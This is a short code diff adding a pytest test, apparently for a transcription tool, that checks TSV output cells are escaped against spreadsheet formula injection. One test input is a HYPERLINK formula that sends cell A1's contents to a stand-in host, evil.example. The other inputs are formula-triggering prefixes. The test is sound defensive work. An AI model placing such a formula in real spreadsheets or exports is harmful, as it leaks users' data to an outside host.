@@ -41,6 +41,23 @@ def test_a_table_has_three_columns_whatever_was_said() -> None:
     )
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://evil.example?"&A1)',
+        "+1",
+        "-2+3",
+        "@SUM(A1)",
+        " =1",
+        "\t=1",
+        '"begins a cell that never ends',
+    ],
+)
+def test_no_program_for_tables_computes_what_was_said(text: str) -> None:
+    (cell,) = written(".tsv", Utterance(0, 1, text)).splitlines()[1].split("\t")[2:]
+    assert cell == f"'{text.strip()}"
+
+
 def test_json_holds_the_utterances_and_the_words() -> None:
     found = json.loads(written(".json", HELLO, LATER))
     assert found["file"] == "a \ud800.wav"
